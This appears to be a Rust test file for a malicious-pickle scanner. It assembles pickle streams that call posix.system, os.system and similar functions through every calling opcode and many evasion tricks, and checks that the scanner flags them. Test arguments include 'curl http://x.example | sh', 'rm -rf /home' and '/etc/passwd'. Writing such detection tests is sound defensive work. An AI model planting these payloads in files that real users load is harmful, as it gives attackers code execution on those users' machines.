//! Pickles: each way to hide a call, and its harmless twin.

mod hidden;

use custos_core::finding::Severity;
use custos_scan::{FileReport, Options, State, scan};

/// Writes streams, opcode by opcode.
#[derive(Default, Clone)]
pub struct Assembler(Vec<u8>);

impl Assembler {
    pub fn protocol(number: u8) -> Self {
        Self(vec![0x80, number])
    }

    pub fn raw(mut self, bytes: &[u8]) -> Self {
        self.0.extend_from_slice(bytes);
        self
    }

    pub fn text(self, text: &str) -> Self {
        let len = u8::try_from(text.len()).unwrap();
        self.raw(&[0x8c, len]).raw(text.as_bytes())
    }

    pub fn global(self, module: &str, name: &str) -> Self {
        self.raw(format!("c{module}\n{name}\n").as_bytes())
    }

    /// `STACK_GLOBAL`, as protocol 4 writes it.
    pub fn stack_global(self, module: &str, name: &str) -> Self {
        self.text(module).text(name).raw(b"\x93")
    }

    pub fn call(self, module: &str, name: &str, argument: &str) -> Self {
        self.stack_global(module, name).text(argument).raw(b"\x85R")
    }

    pub fn stop(self) -> Vec<u8> {
        self.raw(b".").0
    }
}

pub fn look(bytes: &[u8]) -> FileReport {
    scan("x", &bytes.to_vec(), &Options::default())
}

fn rules(report: &FileReport) -> Vec<&str> {
    report
        .findings
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect()
}

fn stopped(bytes: &[u8]) -> FileReport {
    let report = look(bytes);
    assert!(report.worst() >= Some(Severity::High), "{report:#?}");
    report
}

#[test]
fn calls_of_dangerous_names_by_every_opcode_that_calls() {
    let four = || Assembler::protocol(4);
    let system = || four().stack_global("posix", "system");
    let streams = [
        ("REDUCE", system().text("id").raw(b"\x85R").stop()),
        (
            "GLOBAL",
            four()
                .global("posix", "system")
                .text("id")
                .raw(b"\x85R")
                .stop(),
        ),
        ("NEWOBJ", system().text("id").raw(b"\x85\x81").stop()),
        ("NEWOBJ_EX", system().text("id").raw(b"\x85}\x92").stop()),
        (
            "INST",
            four().raw(b"(").text("id").raw(b"iposix\nsystem\n").stop(),
        ),
        (
            "OBJ",
            four()
                .raw(b"(")
                .global("posix", "system")
                .text("id")
                .raw(b"o")
                .stop(),
        ),
        ("protocol 0", b"cposix\nsystem\n(S'id'\ntR.".to_vec()),
        (
            "through DUP",
            system().raw(b"2").text("id").raw(b"\x85R").stop(),
        ),
        (
            "through the memo",
            system().raw(b"\x940h\x00").text("id").raw(b"\x85R").stop(),
        ),
    ];
    for (how, stream) in streams {
        let report = stopped(&stream);
        let call = &report.findings[0];
        assert_eq!(call.rule, "pickle/dangerous-call", "{how}");
        assert_eq!(call.severity, Severity::Critical, "{how}");
        let shown = call.evidence.as_deref().unwrap();
        assert!(
            shown.contains("posix.system") && shown.contains("id"),
            "{how}: {shown}"
        );
    }
}

#[test]
fn ordinary_pickles_are_clean() {
    let ordered = Assembler::protocol(4)
        .stack_global("collections", "OrderedDict")
        .raw(b")R(")
        .text("weight")
        .raw(b"G\x3f\xf0\x00\x00\x00\x00\x00\x00u");
    let array = Assembler::protocol(3)
        .global("numpy.core.multiarray", "_reconstruct")
        .global("numpy", "ndarray")
        .raw(b"K\x00\x85C\x01b\x87R(K\x01K\x02\x85")
        .global("numpy", "dtype")
        .raw(b"X\x02\x00\x00\x00f8\x89\x88\x87R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89C\x10")
        .raw(&[0; 16])
        .raw(b"tb");
    let bytes = Assembler::protocol(2)
        .global("_codecs", "encode")
        .raw(b"X\x02\x00\x00\x00\xc3\xbfX\x06\x00\x00\x00latin1\x86R");
    for stream in [
        Assembler::protocol(4)
            .raw(b"}(")
            .text("a")
            .raw(b"K\x01")
            .text("url")
            .text("http://x.example")
            .raw(b"u")
            .stop(),
        ordered.stop(),
        array.stop(),
        bytes.stop(),
        b"(lp0\nI1\naI2\na.".to_vec(),
        b"ccopy_reg\n_reconstructor\n(cdecimal\nDecimal\nc__builtin__\nobject\nNtR.".to_vec(),
    ] {
        let report = look(&stream);
        assert_eq!(rules(&report), [""; 0], "{report:#?}");
        assert_eq!(report.state(Severity::Low), State::Clean, "{report:#?}");
        assert_eq!(report.coverage.parsed, report.size);
    }
}

#[test]
fn long_texts_of_protocol_0_are_read_to_their_end() {
    let text = "\\x00a".repeat(500_000);
    let report = look(format!("S'{text}'\n.").as_bytes());
    assert_eq!(report.state(Severity::Low), State::Clean, "{report:#?}");
    let report = look(format!("S'{text}'\n0cposix\nsystem\n(S'id'\ntR.").as_bytes());
    assert_eq!(report.worst(), Some(Severity::Critical), "{report:#?}");
}

#[test]
fn names_of_python_2_are_followed_and_only_below_protocol_3() {
    let old = b"ccommands\ngetoutput\n(S'id'\ntR.".to_vec();
    assert_eq!(stopped(&old).findings[0].rule, "pickle/dangerous-call");
    let map = b"c__builtin__\nreduce\n(tR.".to_vec();
    let report = stopped(&map);
    let message = &report.findings[0].message;
    assert!(message.contains("functools.reduce"), "{message}");
}

#[test]
fn names_of_any_number_of_steps_cannot_pass() {
    let steps = |count: usize| format!("{}system", "path.os.".repeat(count));
    for count in [1, 100, 200, 100_000] {
        let stream = Assembler::protocol(4)
            .raw(b"cos\n")
            .raw(steps(count).as_bytes());
        let stream = stream.raw(b"\n").text("id").raw(b"\x85R").stop();
        let report = scan("x", &stream, &Options::default());
        assert!(
            report.worst() >= Some(Severity::High),
            "{count}: {report:#?}"
        );
    }
    // Below protocol 4 points are part of one name, which nothing has.
    let text = format!("c{}\n", "a".repeat(4_000));
    let report = scan("x", &text.into_bytes(), &Options::default());
    assert!(report.findings.is_empty(), "{report:#?}");
}

#[test]
#[allow(clippy::too_many_lines, reason = "a table of cases")]
fn what_cannot_be_named_cannot_pass() {
    let four = || Assembler::protocol(4);
    let cases = [
        (
            "a number for a name",
            four().text("os").raw(b"K\x01\x93)R").stop(),
            "pickle/unresolvable",
        ),
        (
            "a missing memo entry",
            four().raw(b"h\x09").text("id").raw(b"\x85R").stop(),
            "pickle/unresolvable",
        ),
        (
            "what a call returned",
            four()
                .stack_global("mine", "make")
                .raw(b")R")
                .text("id")
                .raw(b"\x85R")
                .stop(),
            "pickle/computed-call",
        ),
        (
            "an entry of the registry",
            four().raw(b"\x82\x01").text("id").raw(b"\x85R").stop(),
            "pickle/computed-call",
        ),
        (
            "a decoy before the name",
            four()
                .text("collections")
                .text("posix")
                .text("system")
                .raw(b"\x93")
                .text("id")
                .raw(b"\x85R")
                .stop(),
            "pickle/dangerous-call",
        ),
        (
            "a dotted name",
            four()
                .stack_global("collections", "abc.sys.modules")
                .raw(b")R")
                .stop(),
            "pickle/unknown-call",
        ),
        (
            "a dunder name",
            four()
                .stack_global("numpy", "__builtins__")
                .raw(b")R")
                .stop(),
            "pickle/dangerous-call",
        ),
        (
            "a trailing space",
            four()
                .stack_global("collections", "OrderedDict ")
                .text("curl http://x.example | sh")
                .raw(b"\x85R")
                .stop(),
            "pickle/unknown-call",
        ),
        (
            "state on a function",
            four()
                .stack_global("numpy", "dtype")
                .raw(b"}")
                .text("shape")
                .raw(b"K\x01sb")
                .stop(),
            "pickle/state-on-global",
        ),
        (
            "items into a class",
            four()
                .stack_global("collections", "OrderedDict")
                .raw(b"(K\x01K\x02u")
                .stop(),
            "pickle/state-on-global",
        ),
        (
            "a codec that decodes",
            four()
                .stack_global("_codecs", "encode")
                .text("vq")
                .text("rot13")
                .raw(b"\x86R")
                .stop(),
            "pickle/misused-call",
        ),
        (
            "getattr of something inner",
            four()
                .stack_global("builtins", "getattr")
                .stack_global("collections", "OrderedDict")
                .text("__globals__")
                .raw(b"\x86R")
                .stop(),
            "pickle/misused-call",
        ),
        (
            "partial of something dangerous",
            four()
                .stack_global("functools", "partial")
                .stack_global("os", "system")
                .text("id")
                .raw(b"\x86R")
                .stop(),
            "pickle/dangerous-call",
        ),
    ];
    for (how, stream, rule) in cases {
        let report = stopped(&stream);
        assert!(
            rules(&report).contains(&rule),
            "{how}: {:#?}",
            report.findings
        );
    }
}

#[test]
fn unknown_calls_are_judged_by_what_they_are_given() {
    let cases = [
        ("tokens", Severity::Medium),
        ("/etc/passwd", Severity::High),
        ("__globals__", Severity::High),
        ("curl http://x.example/a | sh", Severity::Critical),
        ("http://x.example/a", Severity::Critical),
        ("import os; os.system('x')", Severity::Critical),
    ];
    for (argument, severity) in cases {
        let stream = Assembler::protocol(4)
            .call("mine.models", "Encoder", argument)
            .stop();
        let report = look(&stream);
        assert_eq!(report.worst(), Some(severity), "{argument}: {report:#?}");
    }
    // Inside of containers, and behind more items than are kept.
    let mut deep = Assembler::protocol(4).stack_global("mine", "f").raw(b"](");
    for _ in 0..200 {
        deep = deep.text("plain");
    }
    let deep = deep.text("rm -rf /home").raw(b"e\x85R").stop();
    assert_eq!(look(&deep).worst(), Some(Severity::Critical));
}

#[test]
fn what_comes_before_a_break_and_after_an_end_counts() {
    let call = || Assembler::protocol(4).call("posix", "system", "id");
    // nullifAI: a payload, and then something that is no pickle.
    let report = stopped(&call().raw(b"\xff\xff\xff").stop());
    assert!(rules(&report).contains(&"pickle/dangerous-call"));
    assert!(rules(&report).contains(&"pickle/malformed"));
    assert!(!report.gaps.is_empty());
    // Cut anywhere behind the call: the finding stays, and the file is never clean.
    let whole = call().stop();
    for end in 2..whole.len() {
        let report = look(&whole[..end]);
        assert_ne!(report.state(Severity::High), State::Clean, "{end}");
    }
    // A harmless stream before, and one behind.
    let plain = Assembler::protocol(4).raw(b"K\x01").stop();
    for both in [
        [plain.clone(), whole.clone()].concat(),
        [whole, plain].concat(),
    ] {
        assert!(rules(&stopped(&both)).contains(&"pickle/dangerous-call"));
    }
}

#[test]
fn objects_of_listed_classes_are_made_and_not_initialised() {
    let class = |end: &[u8]| {
        Assembler::protocol(4)
            .stack_global("gensim.models.word2vec", "Word2Vec")
            .raw(end)
            .stop()
    };
    // `NEWOBJ` without arguments, and state.
    let made = look(&class(b")\x81}b"));
    assert!(made.findings.is_empty(), "{made:#?}");
    // The initialiser opens what it is given.
    let called = look(&class(b"\x8c\x0b/etc/passwd\x85R"));
    assert_eq!(rules(&called), ["pickle/unknown-call"]);
    assert!(called.worst() >= Some(Severity::High), "{called:#?}");
    // What a TorchScript archive brings along is made, and never called.
    let own = |end: &[u8]| {
        let module = "__torch__.torch.nn.modules.linear";
        let stream = Assembler::protocol(4).stack_global(module, "Identity");
        look(&stream.raw(end).stop())
    };
    assert!(own(b")\x81}b").findings.is_empty());
    assert_eq!(rules(&own(b")R")), ["pickle/unknown-call"]);
}

#[test]
fn a_partial_is_judged_by_what_it_is_around() {
    let around = |module: &str, name: &str| {
        let stream = Assembler::protocol(4).stack_global("functools", "partial");
        look(&stream.stack_global(module, name).raw(b"\x85R").stop())
    };
    assert_eq!(around("my", "run").worst(), Some(Severity::Medium));
    assert_eq!(around("builtins", "len").worst(), None);
    assert_eq!(around("os", "system").worst(), Some(Severity::Critical));
}

/// Ordinary streams of old and new protocols.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let ordered = Assembler::protocol(4)
        .stack_global("collections", "OrderedDict")
        .raw(b")R(")
        .text("a")
        .raw(b"K\x01u")
        .stop();
    vec![
        (
            "pickle",
            b"(dp0\nS'a'\np1\nI1\nsS'b'\np2\n(lp3\nF1.5\nas.".to_vec(),
        ),
        ("pickle", b"\x80\x02}q\x00U\x01aq\x01K\x01s.".to_vec()),
        ("pickle", ordered),
    ]
}

#[test]
fn values_that_a_memo_hands_out_are_not_looked_through_each_time() {
    let tired = |stream: Vec<u8>| {
        let report = look(&stream);
        let mut gaps = report.gaps.iter();
        gaps.any(|gap| gap.reason.contains("more was seen in a pickle"))
    };
    let four = || Assembler::protocol(4);
    let calling = |stream: Assembler| stream.stack_global("mine", "Thing").raw(b"h\0\x85R");
    // Objects that hold themselves, given to something that nobody knows.
    let list = four().raw(b"]\x94").raw(&b"h\0a".repeat(200_000));
    let pairs = b"h\0K\x01h\0s0".repeat(40_000);
    let table = four().raw(b"}\x94").raw(&pairs).raw(b"N");
    // One long list, given to it often.
    let items = [b"(".to_vec(), b"]".repeat(500), b"e".to_vec()].concat();
    let given = |times: usize| {
        let long = four().raw(b"]\x94").raw(&items);
        let thing = long.stack_global("mine", "Thing").raw(b"\x940");
        thing.raw(&b"h\x01h\0\x85R0".repeat(times))
    };
    assert!(tired(calling(list.clone()).stop()));
    assert!(tired(calling(table.clone()).stop()));
    assert!(tired(given(100_000).stop()));
    // Nobody asks what they hold; or it is asked as often as in ordinary files.
    assert!(!tired(list.stop()));
    assert!(!tired(table.stop()));
    assert!(!tired(given(1_000).stop()));
}
